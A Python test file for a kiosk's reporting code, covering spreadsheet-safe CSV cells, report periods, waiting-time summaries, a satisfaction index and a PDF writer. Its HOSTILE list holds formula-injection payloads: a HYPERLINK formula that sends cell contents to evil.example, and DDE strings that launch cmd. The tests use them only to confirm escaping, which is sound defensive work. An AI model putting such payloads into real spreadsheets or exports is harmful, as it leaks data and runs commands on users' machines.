"""The desk reports' pure pieces: spreadsheet-safe CSV cells (hostile names), report periods, the stretch summary
shared by the kiosk and the central, a visit measured from its registration time when no event records it, and
the PDF writer's document structure."""
from __future__ import annotations

import csv
import io
import re
import zlib
from datetime import UTC, date, datetime, timedelta
from fractions import Fraction

import pytest

from kiosk.domain.reporting import csv_cell, csv_text, split_periods
from kiosk.domain.sla import STANDARDS, measure_visit, summarise_stretch
from kiosk.domain.survey import compute_ikm, ikm_from_totals
from kiosk.domain.visit import VisitEvent, VisitState

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+62 812 cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(name):
    cell = csv_cell(name)
    assert cell == "'" + name
    # Through the whole document and back: the first character a spreadsheet sees is the apostrophe.
    text = csv_text(["nama"], [[name]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1][0] == "'" + name and rows[1][0][0] == "'"


def test_ordinary_text_and_numbers_are_left_alone():
    assert csv_cell("Budi Santoso") == "Budi Santoso"
    assert csv_cell("Jl. Melati = 3") == "Jl. Melati = 3"  # only the first character matters
    assert csv_cell(-5) == "-5" and csv_cell(3.25) == "3.25" and csv_cell(None) == ""
    assert csv_cell(Fraction(10, 3)) == "3.3333"
    assert csv_cell("") == ""
    rows = list(csv.reader(io.StringIO(csv_text(["a", "b"], [["x,y", 'say "hi"']]).lstrip("\ufeff"))))
    assert rows == [["a", "b"], ["x,y", 'say "hi"']]


def test_periods_are_calendar_months_quarters_and_years_clipped_to_the_range():
    months = split_periods(date(2026, 1, 15), date(2026, 3, 2), "month")
    assert [(p.label, p.start, p.end) for p in months] == [
        ("2026-01", date(2026, 1, 15), date(2026, 1, 31)),
        ("2026-02", date(2026, 2, 1), date(2026, 2, 28)),
        ("2026-03", date(2026, 3, 1), date(2026, 3, 2)),
    ]
    quarters = split_periods(date(2025, 11, 1), date(2026, 4, 30), "quarter")
    assert [p.label for p in quarters] == ["2025-T4", "2026-T1", "2026-T2"]
    assert quarters[1].start == date(2026, 1, 1) and quarters[1].end == date(2026, 3, 31)
    years = split_periods(date(2025, 12, 31), date(2026, 1, 1), "year")
    assert [(p.label, p.start, p.end) for p in years] == [("2025", date(2025, 12, 31), date(2025, 12, 31)),
                                                          ("2026", date(2026, 1, 1), date(2026, 1, 1))]
    assert split_periods(date(2024, 2, 1), date(2024, 2, 29), "month")[0].end == date(2024, 2, 29)  # leap year
    assert split_periods(date(2026, 2, 2), date(2026, 2, 1)) == []
    with pytest.raises(ValueError):
        split_periods(date(2026, 1, 1), date(2026, 2, 1), "fortnight")


def test_the_stretch_summary_counts_limit_and_target_and_gives_mean_median_longest():
    waiting = STANDARDS["waiting"]  # target 15 min, limit 30 min
    values = [timedelta(minutes=m) for m in (5, 15, 20, 30, 45)]
    s = summarise_stretch("waiting", values)
    assert (s.measured, s.within_limit, s.within_target) == (5, 4, 2)
    assert s.median == timedelta(minutes=20) and s.longest == timedelta(minutes=45)
    assert s.mean == timedelta(minutes=23)
    assert s.share_within_limit == pytest.approx(0.8)
    assert waiting.limit == timedelta(minutes=30)
    empty = summarise_stretch("whole_service", [])
    assert empty.measured == 0 and empty.mean is None and empty.share_within_limit is None


def _t(minutes: int) -> datetime:
    return datetime(2026, 11, 23, 1, 0, tzinfo=UTC) + timedelta(minutes=minutes)


def test_a_visit_pushed_already_registered_is_measured_from_its_registration_time():
    ev = [VisitEvent("v", "transition", _t(12), "host", "central", VisitState.WAITING_HOST, VisitState.ACCEPTED),
          VisitEvent("v", "transition", _t(14), "guard", "gate-1", VisitState.ACCEPTED, VisitState.INSIDE)]
    without = measure_visit(ev)
    assert without.waiting is None and without.whole_service is None
    d = measure_visit(ev, registered_at=_t(0))
    assert d.waiting == timedelta(minutes=12) and d.whole_service == timedelta(minutes=14)
    # A registration event, when there is one, wins over the stand-in.
    ev.append(VisitEvent("v", "transition", _t(2), "kiosk", "lobby-1", None, VisitState.REGISTERED))
    assert measure_visit(ev, registered_at=_t(0)).waiting == timedelta(minutes=10)


def test_the_ikm_pooled_over_offices_is_the_ikm_of_all_their_answers():
    a = [(4, 4, 3, 4, 3, 3, 4, 4, 3), (3, 3, 3, 4, 3, 2, 3, 3, 3)]
    b = [(2, 3, 2, 4, 2, 2, 3, 2, 3)]
    sums = lambda rows: [sum(col) for col in zip(*rows, strict=True)]  # noqa: E731
    pooled = ikm_from_totals([x + y for x, y in zip(sums(a), sums(b), strict=True)], 3)
    assert pooled.ikm == compute_ikm(a + b).ikm
    assert pooled.ikm != (compute_ikm(a).ikm + compute_ikm(b).ikm) / 2  # not the mean of the offices' indexes


def _pdf_text(pdf: bytes) -> str:
    streams = re.findall(rb"stream\n(.*?)\nendstream", pdf, re.S)
    return b"\n".join(zlib.decompress(s) for s in streams).decode("cp1252")


def test_the_pdf_writer_makes_a_well_formed_a4_document_with_tables_across_pages():
    from kiosk.central.pdf import PdfDoc

    doc = PdfDoc("Laporan (uji) \\ tes", footer="KEJARI-KLK")
    doc.heading("Survei Kepuasan Masyarakat")
    doc.para("IKM = jumlah(NRR × 1/9) × 25 " * 20)
    doc.table(["Unsur", "NRR"], [[f"U{i}", f"{i / 10:.2f}"] for i in range(120)], [0.7, 0.3], align="lr")
    doc.bars([("Persyaratan", 3.5), ("Biaya/tarif", 4.0)], 4.0, marks=(3.0,))
    pdf = doc.to_bytes()
    assert pdf.startswith(b"%PDF-1.4") and pdf.rstrip().endswith(b"%%EOF")
    # The cross-reference table points at every object exactly.
    xref_at = int(re.search(rb"startxref\n(\d+)", pdf).group(1))
    assert pdf[xref_at:xref_at + 4] == b"xref"
    count = int(re.search(rb"xref\n0 (\d+)", pdf).group(1))
    offsets = [int(m) for m in re.findall(rb"(\d{10}) 00000 n ", pdf)]
    assert len(offsets) == count - 1
    for n, off in enumerate(offsets, 1):
        assert pdf[off:].startswith(b"%d 0 obj" % n)
    assert re.search(rb"/MediaBox \[0 0 595.28 841.89\]", pdf)
    pages = int(re.search(rb"/Type /Pages /Kids \[[^\]]*\] /Count (\d+)", pdf).group(1))
    assert pages >= 3  # 120 rows do not fit one page
    text = _pdf_text(pdf)
    assert "(U0)" in text and "(U119)" in text
    assert text.count("(Unsur)") >= 2  # the header is repeated on the next page
    assert f"(KEJARI-KLK · {pages}/{pages})" in text
    assert "\\(uji\\)" in pdf.decode("latin-1")  # parentheses in text are escaped
    assert "×" in text  # WinAnsi covers the multiplication sign
